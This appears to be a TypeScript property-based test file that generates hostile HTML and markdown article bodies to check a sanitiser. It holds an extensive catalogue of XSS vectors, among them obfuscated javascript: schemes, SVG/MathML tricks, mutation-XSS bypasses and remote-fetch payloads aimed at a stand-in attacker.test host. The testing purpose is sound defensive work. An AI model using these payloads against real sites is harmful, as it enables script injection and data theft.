/**
 * A grammar of hostile article bodies (fast-check arbitraries) built from known XSS and
 * data-exfiltration vectors: event handlers, javascript: and data: URLs, SVG, MathML, style,
 * frames, mutation-XSS parser differentials, remote resources and DOM clobbering; for HTML bodies
 * (editor_type 0) and markdown bodies (editor_type 1, which may embed raw HTML).
 *
 * Every vector that would run script calls `__xss(<id>)` and every vector that would fetch points
 * at https://attacker.test/<id>.<ext>, so the oracle (xss-oracle.ts) can observe both. Each vector
 * belongs to a family, so the sanitiser-off check can show that every family is detected.
 */
import fc from "fast-check";

export const ATTACKER_ORIGIN = "https://attacker.test";

export type Family =
  | "handler"
  | "javascript-url"
  | "data-url"
  | "script"
  | "svg"
  | "mathml"
  | "style"
  | "frame"
  | "mutation"
  | "resource"
  | "clobbering"
  | "markdown";

export interface Vector {
  family: Family;
  text: string;
}

const call = (id: number) => `__xss(${id})`;
const remote = (id: number, ext: string) => `${ATTACKER_ORIGIN}/${id}.${ext}`;
const b64 = (text: string) => Buffer.from(text, "utf8").toString("base64");

const id = fc.integer({ min: 1, max: 999_999 });

/** Randomly cased: the HTML parser ignores case in names and in the javascript: scheme. */
const mixedCase = (text: string) =>
  fc
    .array(fc.boolean(), { minLength: text.length, maxLength: text.length })
    .map((flags) =>
      Array.from(text, (c, i) => (flags[i] ? c.toUpperCase() : c.toLowerCase())).join(""),
    );

const quote = fc.constantFrom('"', "'", "");
const gap = fc.constantFrom(" ", "/", "\n", "\t", " \f");

// ---------------------------------------------------------------------------------------------
// Event handlers on every kind of carrier

const HANDLER_CARRIERS: readonly (readonly [tag: string, attributes: string, rest: string])[] = [
  ["img", 'src="x"', ""],
  ["img", "src", ""],
  ["image", "src=x", ""],
  ["svg", "", "</svg>"],
  ["body", "", "</body>"],
  ["div", 'tabindex="1" autofocus', "x</div>"],
  ["a", 'href="#"', "x</a>"],
  ["details", "open", "<summary>s</summary></details>"],
  ["video", "", '<source src="x"></video>'],
  ["audio", 'src="x"', "</audio>"],
  ["input", "autofocus", ""],
  ["select", "autofocus", "<option>o</option></select>"],
  ["textarea", "autofocus", "t</textarea>"],
  ["marquee", "", "m</marquee>"],
  ["iframe", "", "</iframe>"],
  ["object", 'data="x"', "</object>"],
  ["p", "", "p</p>"],
  ["h2", "", "Heading</h2>"],
  ["button", "", "b</button>"],
  ["table", "", "<tr><td>t</td></tr></table>"],
  ["style", "", "@keyframes x{}</style>"],
];

const HANDLER_EVENTS = [
  "onerror",
  "onload",
  "onclick",
  "onmouseover",
  "onfocus",
  "onfocusin",
  "ontoggle",
  "onanimationstart",
  "onpointerover",
  "onbegin",
  "onmousedown",
  "oninput",
  "onscroll",
  "onwheel",
  "onbeforetoggle",
];

const handler: fc.Arbitrary<Vector> = fc
  .record({
    carrier: fc.constantFrom(...HANDLER_CARRIERS),
    event: fc.constantFrom(...HANDLER_EVENTS).chain(mixedCase),
    quote,
    gap,
    id,
  })
  .map(({ carrier: [tag, attributes, rest], event, quote: q, gap: g, id: n }) => ({
    family: "handler",
    text: `<${tag}${attributes ? ` ${attributes}` : ""}${g}${event}=${q}${call(n)}${q}>${rest}`,
  }));

// ---------------------------------------------------------------------------------------------
// javascript: URLs, obfuscated, on everything that navigates or loads

const JS_SCHEMES = [
  "javascript:",
  "JaVaScRiPt:",
  " javascript:",
  "\u0001javascript:",
  "java&#x09;script:",
  "java&#10;script:",
  "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;",
  "&#x6A;avascript&colon;",
  "javascript&#58;",
  "jav\u0000ascript:",
];

const JS_CARRIERS: readonly ((url: string) => string)[] = [
  (url) => `<a href="${url}">link</a>`,
  (url) => `<a href=${url.replace(/ /g, "")}>link</a>`,
  (url) => `<map name="m"><area shape="rect" coords="0,0,9,9" href="${url}"></map>`,
  (url) => `<form action="${url}"><button>go</button></form>`,
  (url) => `<form><button formaction="${url}">go</button></form>`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<embed src="${url}">`,
  (url) => `<object data="${url}"></object>`,
  (url) => `<math href="${url}"><mi>x</mi></math>`,
  (url) => `<svg><a xlink:href="${url}"><text x="1" y="9">x</text></a></svg>`,
  (url) => `<svg><a href="${url}"><circle r="9"></circle></a></svg>`,
  (url) => `<base href="${url}//"><a href="x">rel</a>`,
  (url) => `<input type="image" src="x" formaction="${url}">`,
];

const javascriptUrl: fc.Arbitrary<Vector> = fc
  .record({ scheme: fc.constantFrom(...JS_SCHEMES), carrier: fc.constantFrom(...JS_CARRIERS), id })
  .map(({ scheme, carrier, id: n }) => ({
    family: "javascript-url",
    text: carrier(`${scheme}${call(n)}`),
  }));

// ---------------------------------------------------------------------------------------------
// data: URLs carrying documents with script

const dataUrl: fc.Arbitrary<Vector> = fc
  .record({
    id,
    encode: fc.boolean(),
    carrier: fc.constantFrom(
      (url: string) => `<a href="${url}">data</a>`,
      (url: string) => `<iframe src="${url}"></iframe>`,
      (url: string) => `<object data="${url}"></object>`,
      (url: string) => `<embed src="${url}">`,
      (url: string) => `<form action="${url}"><button>x</button></form>`,
    ),
    kind: fc.constantFrom("text/html", "image/svg+xml", "application/xhtml+xml"),
  })
  .map(({ id: n, encode, carrier, kind }) => {
    const document =
      kind === "text/html"
        ? `<script>parent.${call(n)}</script>`
        : `<svg xmlns="http://www.w3.org/2000/svg" onload="parent.${call(n)}"/>`;
    const url = encode
      ? `data:${kind};base64,${b64(document)}`
      : `data:${kind},${encodeURIComponent(document)}`;
    return { family: "data-url", text: carrier(url) };
  });

// ---------------------------------------------------------------------------------------------
// Script elements

const script: fc.Arbitrary<Vector> = fc
  .oneof(
    id.map((n) => `<script>${call(n)}</script>`),
    id.map((n) => `<SCRIPT SRC="${remote(n, "js")}"></SCRIPT>`),
    id.map((n) => `<script src=${remote(n, "js")}></script>`),
    id.map((n) => `<scr<script>ipt>${call(n)}</scr</script>ipt>`),
    id.map((n) => `<script type="module">${call(n)}</script>`),
    id.map((n) => `<template><script>${call(n)}</script></template>`),
    id.map((n) => `<noscript><script>${call(n)}</script></noscript>`),
  )
  .map((text) => ({ family: "script" as const, text }));

// ---------------------------------------------------------------------------------------------
// SVG

const svg: fc.Arbitrary<Vector> = fc
  .oneof(
    id.map((n) => `<svg><script>${call(n)}</script></svg>`),
    id.map((n) => `<svg><script href="${remote(n, "js")}"></script></svg>`),
    id.map((n) => `<svg onload=${call(n)}>`),
    id.map((n) => `<svg><animate onbegin="${call(n)}" attributeName="x" dur="1s"/></svg>`),
    id.map(
      (n) =>
        `<svg><a><animate attributeName="href" values="javascript:${call(n)}"/><text x="9" y="9">x</text></a></svg>`,
    ),
    id.map((n) => `<svg><set attributeName="onmouseover" to="${call(n)}"/></svg>`),
    id.map((n) => `<svg><image href="${remote(n, "png")}"/></svg>`),
    id.map((n) => `<svg><image xlink:href="${remote(n, "png")}"/></svg>`),
    id.map((n) => `<svg><use href="${remote(n, "svg")}#x"/></svg>`),
    id.map((n) => `<svg><filter><feImage href="${remote(n, "png")}"/></filter></svg>`),
    id.map((n) => `<svg><foreignObject><img src="x" onerror="${call(n)}"></foreignObject></svg>`),
    id.map((n) => `<svg><style>@import "${remote(n, "css")}";</style></svg>`),
    id.map((n) => `<svg><desc><img src=x onerror=${call(n)}></desc></svg>`),
  )
  .map((text) => ({ family: "svg" as const, text }));

// ---------------------------------------------------------------------------------------------
// MathML

const mathml: fc.Arbitrary<Vector> = fc
  .oneof(
    id.map(
      (n) =>
        `<math><maction actiontype="statusline" xlink:href="javascript:${call(n)}">x</maction></math>`,
    ),
    id.map((n) => `<math><mi xlink:href="javascript:${call(n)}">x</mi></math>`),
    id.map((n) => `<math><mtext><img src=x onerror=${call(n)}></mtext></math>`),
    id.map(
      (n) =>
        `<math><annotation-xml encoding="text/html"><img src=x onerror=${call(n)}></annotation-xml></math>`,
    ),
    id.map(
      (n) =>
        `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${call(n)} src=1>"></path></textarea></mtext></svg></mglyph></mi></math>`,
    ),
    id.map((n) => `<math><style><img src=x onerror=${call(n)}></style></math>`),
  )
  .map((text) => ({ family: "mathml" as const, text }));

// ---------------------------------------------------------------------------------------------
// Style: remote requests and script from CSS

const style: fc.Arbitrary<Vector> = fc
  .oneof(
    id.map((n) => `<style>@import "${remote(n, "css")}";</style>`),
    id.map((n) => `<style>@import url(${remote(n, "css")});</style>`),
    id.map((n) => `<style>p{background:url("${remote(n, "png")}")}</style>`),
    id.map((n) => `<p style="background-image:url(${remote(n, "png")})">bg</p>`),
    id.map((n) => `<p style="background:url('${remote(n, "png")}') no-repeat; color: red">bg</p>`),
    id.map((n) => `<p style="background-image:image-set('${remote(n, "png")}' 1x)">set</p>`),
    id.map((n) => `<p style="list-style-image:url(${remote(n, "png")})">li</p>`),
    id.map((n) => `<p style="background:u\\rl(${remote(n, "png")})">escaped</p>`),
    id.map((n) => `<p style="width:expression(${call(n)})">ie</p>`),
    id.map((n) => `<p style="behavior:url(${remote(n, "htc")})">htc</p>`),
    id.map((n) => `<link rel="stylesheet" href="${remote(n, "css")}">`),
    id.map((n) => `<link rel="preload" as="image" href="${remote(n, "png")}">`),
    id.map((n) => `<link rel="import" href="${remote(n, "html")}">`),
    id.map(
      (n) => `<div style="position:fixed;inset:0;z-index:99999" onclick="${call(n)}">overlay</div>`,
    ),
  )
  .map((text) => ({ family: "style" as const, text }));

// ---------------------------------------------------------------------------------------------
// Frames and embedded documents

const frame: fc.Arbitrary<Vector> = fc
  .oneof(
    id.map((n) => `<iframe src="${remote(n, "html")}"></iframe>`),
    id.map((n) => `<iframe srcdoc="<script>parent.${call(n)}</script>"></iframe>`),
    id.map((n) => `<iframe srcdoc="&lt;img src=x onerror=parent.${call(n)}&gt;"></iframe>`),
    id.map((n) => `<frameset><frame src="${remote(n, "html")}"></frameset>`),
    id.map(
      (n) => `<object data="${remote(n, "swf")}" type="application/x-shockwave-flash"></object>`,
    ),
    id.map((n) => `<embed src="${remote(n, "swf")}">`),
    id.map((n) => `<portal src="${remote(n, "html")}"></portal>`),
    id.map((n) => `<meta http-equiv="refresh" content="0;url=${remote(n, "html")}">`),
  )
  .map((text) => ({ family: "frame" as const, text }));

// ---------------------------------------------------------------------------------------------
// Mutation XSS: markup that a second parse (after serialising) turns into live script

const mutation: fc.Arbitrary<Vector> = fc
  .oneof(
    id.map((n) => `<noscript><p title="</noscript><img src=x onerror=${call(n)}>"></noscript>`),
    id.map((n) => `<svg></p><style><a id="</style><img src=1 onerror=${call(n)}>">`),
    id.map(
      (n) =>
        `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${call(n)}&gt;">`,
    ),
    id.map(
      (n) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call(n)}>`,
    ),
    id.map((n) => `<xmp><p title="</xmp><img src=x onerror=${call(n)}>"></xmp>`),
    id.map((n) => `<textarea><img title="</textarea><img src=x onerror=${call(n)}>"></textarea>`),
    id.map((n) => `<title><img title="</title><img src=x onerror=${call(n)}>"></title>`),
    id.map((n) => `<noembed><img title="</noembed><img src=x onerror=${call(n)}>"></noembed>`),
    id.map((n) => `<!--><img src=x onerror=${call(n)}>-->`),
    id.map((n) => `<a title="--><img src=x onerror=${call(n)}>"><!-- x -->a</a>`),
    id.map((n) => `<svg><p><style><img src=x onerror=${call(n)}></style></p></svg>`),
    id.map(
      (n) => `<div id="x"><svg><style>&lt;img src=x onerror=${call(n)}&gt;</style></svg></div>`,
    ),
    id.map((n) => `<table><tr><td><form><svg><foreignObject></form><img src=x onerror=${call(n)}>`),
    id.map(
      (n) => `<select><template><style><img src=x onerror=${call(n)}></style></template></select>`,
    ),
    id.map((n) => `<![CDATA[><img src=x onerror=${call(n)}>]]>`),
  )
  .map((text) => ({ family: "mutation" as const, text }));

// ---------------------------------------------------------------------------------------------
// Remote resources: tracking pixels and other fetches

const resource: fc.Arbitrary<Vector> = fc
  .oneof(
    id.map((n) => `<img src="${remote(n, "gif")}" alt="pixel">`),
    id.map((n) => `<img src="//attacker.test/${n}.gif" alt="relative scheme">`),
    id.map((n) => `<img srcset="${remote(n, "png")} 1x, ${remote(n, "2x.png")} 2x" alt="set">`),
    id.map(
      (n) =>
        `<picture><source srcset="${remote(n, "webp")}"><img src="/__files/img/ok.svg" alt="p"></picture>`,
    ),
    id.map((n) => `<video src="${remote(n, "mp4")}" poster="${remote(n, "jpg")}"></video>`),
    id.map(
      (n) => `<video><source src="${remote(n, "mp4")}"><track src="${remote(n, "vtt")}"></video>`,
    ),
    id.map((n) => `<audio src="${remote(n, "mp3")}" autoplay></audio>`),
    id.map((n) => `<input type="image" src="${remote(n, "png")}">`),
    id.map(
      (n) =>
        `<table background="${remote(n, "png")}"><tr><td background="${remote(n, "td.png")}">t</td></tr></table>`,
    ),
    id.map((n) => `<body background="${remote(n, "png")}">`),
    id.map((n) => `<a href="#" ping="${remote(n, "ping")}">ping</a>`),
    id.map((n) => `<base href="${ATTACKER_ORIGIN}/${n}/"><img src="relative.png" alt="based">`),
    id.map((n) => `<img src="&#104;ttps://attacker.test/${n}.gif" alt="entity">`),
    id.map((n) => `<img src="https:\\\\attacker.test\\${n}.gif" alt="backslash">`),
    id.map((n) => `<IMG SRC=${remote(n, "gif")} ALT=upper>`),
  )
  .map((text) => ({ family: "resource" as const, text }));

// ---------------------------------------------------------------------------------------------
// DOM clobbering: names and ids that shadow the page's globals and elements

const clobbering: fc.Arbitrary<Vector> = fc
  .constantFrom(
    `<a id="main" href="#">main</a>`,
    `<img name="getElementById" src="/__files/img/c.svg" alt="c">`,
    `<form id="__xss"><input name="call"></form>`,
    `<a id="location" href="${ATTACKER_ORIGIN}/clobber">loc</a>`,
    `<img name="cookie" alt="c">`,
    `<div id="comments">fake comments</div>`,
    `<a id="article-title" name="article-title">title</a>`,
    `<form name="body"><input name="innerHTML"></form>`,
  )
  .map((text) => ({ family: "clobbering" as const, text }));

// ---------------------------------------------------------------------------------------------
// Markdown-only syntax

const markdownOnly: fc.Arbitrary<Vector> = fc
  .oneof(
    id.map((n) => `[click](javascript:${call(n)})`),
    id.map((n) => `[click](<javascript:${call(n)}>)`),
    id.map((n) => `[click](JAVASCRIPT:${call(n)} "title")`),
    id.map((n) => `[click](javascript&#58;${call(n)})`),
    id.map((n) => `[ref][r${n}]\n\n[r${n}]: javascript:${call(n)}`),
    id.map((n) => `[data](data:text/html;base64,${b64(`<script>parent.${call(n)}</script>`)})`),
    id.map((n) => `![pixel](${remote(n, "png")})`),
    id.map((n) => `![pixel](${remote(n, "png")} "a title")`),
    id.map((n) => `![x](javascript:${call(n)})`),
    id.map((n) => `<javascript:${call(n)}>`),
    id.map((n) => `# Heading <img src=x onerror=${call(n)}>`),
    id.map(
      (n) =>
        `| a | b |\n|---|---|\n| <img src=x onerror=${call(n)}> | <a href="javascript:${call(n)}">x</a> |`,
    ),
    id.map((n) => `<div>\n\n<svg onload=${call(n)}>\n\n</div>`),
    id.map((n) => `- [ ] task <img src=x onerror=${call(n)}>`),
    id.map((n) => "```html\n<script>" + call(n) + "</script>\n```"),
    id.map((n) => `\`<img src=x onerror=${call(n)}>\``),
    id.map((n) => `> quote <iframe src="${remote(n, "html")}"></iframe>`),
  )
  .map((text) => ({ family: "markdown" as const, text }));

// ---------------------------------------------------------------------------------------------
// Bodies

/** Ordinary content between the vectors (headings feed the directory, images the zoom viewer). */
const benignHtml = fc.constantFrom(
  "<h1>Background</h1>",
  "<h2>Settings</h2>",
  "<p>A paragraph with <strong>bold</strong> and <a href='/knowledge/home'>a link</a>.</p>",
  "<figure><img src='/__files/img/b.svg?w=10&h=10' alt='Figure'><figcaption>Figure</figcaption></figure>",
  "<ul><li>one</li><li>two</li></ul>",
  "<table><tr><td>cell</td></tr></table>",
);

const benignMarkdown = fc.constantFrom(
  "# Background",
  "## Settings",
  "Some **bold** text and [a link](/knowledge/home).",
  "![Figure](/__files/img/b.svg?w=10&h=10)",
  "- one\n- two",
  "| a | b |\n|---|---|\n| 1 | 2 |",
);

export const htmlVector: fc.Arbitrary<Vector> = fc.oneof(
  handler,
  javascriptUrl,
  dataUrl,
  script,
  svg,
  mathml,
  style,
  frame,
  mutation,
  resource,
  clobbering,
);

/** Where a vector lands in an HTML body: on its own, or inside a heading, paragraph or cell. */
const htmlContext = fc.constantFrom(
  (v: string) => v,
  (v: string) => `<p>${v}</p>`,
  (v: string) => `<h2>${v}</h2>`,
  (v: string) => `<table><tr><td>${v}</td></tr></table>`,
  (v: string) => `<div><blockquote>${v}</blockquote></div>`,
);

export interface HostileBody {
  content: string;
  families: Family[];
  /** A hostile title too (titles arrive as HTML). */
  title: string;
}

interface Part {
  text: string;
  family: Family | null;
}

const part = (
  vector: fc.Arbitrary<Vector>,
  benign: fc.Arbitrary<string>,
  wrap?: fc.Arbitrary<(v: string) => string>,
): fc.Arbitrary<Part> =>
  fc.oneof(
    { weight: 1, arbitrary: benign.map((text): Part => ({ text, family: null })) },
    {
      weight: 3,
      arbitrary: wrap
        ? fc.tuple(vector, wrap).map(([v, w]): Part => ({ text: w(v.text), family: v.family }))
        : vector.map((v): Part => ({ text: v.text, family: v.family })),
    },
  );

function body(
  vector: fc.Arbitrary<Vector>,
  benign: fc.Arbitrary<string>,
  separator: string,
  wrap?: fc.Arbitrary<(v: string) => string>,
): fc.Arbitrary<HostileBody> {
  return fc
    .record({
      parts: fc.array(part(vector, benign, wrap), { minLength: 1, maxLength: 6 }),
      title: htmlVector,
    })
    .map(({ parts, title }) => ({
      content: parts.map((p) => p.text).join(separator),
      families: parts.flatMap((p) => (p.family ? [p.family] : [])),
      title: title.text,
    }));
}

/** HTML bodies (editor_type 0). */
export const hostileHtmlBody = body(htmlVector, benignHtml, "\n", htmlContext);

/** Markdown bodies (editor_type 1): markdown syntax and raw HTML vectors. */
export const hostileMarkdownBody = body(
  fc.oneof({ weight: 2, arbitrary: markdownOnly }, { weight: 3, arbitrary: htmlVector }),
  benignMarkdown,
  "\n\n",
);
